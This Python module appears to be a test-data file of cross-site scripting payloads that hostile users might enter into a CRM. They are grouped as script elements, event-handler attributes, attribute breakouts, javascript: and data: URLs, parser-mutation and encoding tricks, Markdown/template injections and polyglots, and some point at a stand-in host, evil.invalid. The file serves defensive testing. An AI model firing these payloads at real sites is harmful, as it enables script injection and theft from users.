"""What people of bad intent write into a CRM (B-5): each would call ``xss()`` where a page took it for more than words.

Grouped by what they count on: an element made of text, an attribute left open, an address that is a script, a parser that
mends what was broken, a language made into HTML (Markdown, templates, SVG, MathML), and one text for many places.
"""

from __future__ import annotations

from itertools import product

ELEMENTS = [
    "<script>xss()</script>",
    "<SCRIPT>xss()</SCRIPT>",
    "<ScRiPt >xss()</sCrIpT >",
    "<script src=data:,xss()></script>",
    "<script type=module>xss()</script>",
    "<script\x20type='text/javascript'>xss();</script>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</script><script>xss()</script>",
    "</style><script>xss()</script>",
    "<!--><script>xss()</script>-->",
    "<![CDATA[<script>xss()</script>]]>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<iframe src=javascript:parent.xss()></iframe>",
    "<object data=javascript:xss()></object>",
    "<embed src=javascript:xss()>",
    "<form action=javascript:xss()><button>确定</button></form>",
    "<button formaction=javascript:xss() form=x>确定</button>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<template><img src=x onerror=xss()></template>",
    "<portal src=//evil.invalid/></portal>",
]
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "marquee",
    "object data=x",
)
EVENTS = ("onerror", "ONLOAD", "onfocus", "ontoggle")
HANDLERS = [f"<{tag} {event}=xss()>" for tag, event in product(TAGS, EVENTS)]
ATTRIBUTES = [
    '" onmouseover="xss()',
    "' onmouseover='xss()",
    '" autofocus onfocus=xss() x="',
    "` onerror=`xss()",
    '"><img src=x onerror=xss()>',
    "'><img src=x onerror=xss()>",
    '"/><svg/onload=xss()>',
    "x\"style=\"background:url('//evil.invalid/x')",
]
ADDRESSES = [
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    " javascript:xss()",
    "java\tscript:xss()",
    "javascript&colon;xss()",
    "javascript://%0axss()",
    "data:text/html,<script>opener.xss()</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIueHNzKCk8L3NjcmlwdD4=",
    "vbscript:xss()",
    "//evil.invalid/x",
]
MENDED = [
    "<img src=x onerror=xss()//",
    "<<img src=x onerror=xss()>",
    "<img\x0csrc=x\x0conerror=xss()>",
    "<img/src=x/onerror=xss()>",
    "<img src=x onerror=&#x78;ss()>",
    "&lt;img src=x onerror=xss()&gt;",
    "&#60;img src=x onerror=xss()&#62;",
    "＜img src=x onerror=xss()＞",
    "\\u003cimg src=x onerror=xss()\\u003e",
    "%3Cimg%20src%3Dx%20onerror%3Dxss()%3E",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "<svg><style><img src=x onerror=xss()></style></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:xss()><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=xss()>#x'>",
    "<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>",
]
LANGUAGES = [
    "[打开](javascript:xss())",
    '![图](x"onerror="xss())',
    "[x]: javascript:xss()",
    "<javascript:xss()>",
    "{{constructor.constructor('xss()')()}}",
    "${xss()}",
    "<%= xss() %>",
    "{{7*7}}{% debug %}",
    "@[<img src=x onerror=xss()>](user:01900000-0000-7000-8000-000000000000)",
    '=HYPERLINK("javascript:xss()")',
]
POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=xss() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=xss()//>\\x3e",
    '\'">><marquee><img src=x onerror=xss()></marquee>"></plaintext\\></|\\><plaintext/onmouseover=xss()>',
    "--></tiTle></stYle><scRipt>xss()</scRipt><!--",
]
PAYLOADS = [*ELEMENTS, *HANDLERS, *ATTRIBUTES, *ADDRESSES, *MENDED, *LANGUAGES, *POLYGLOTS]
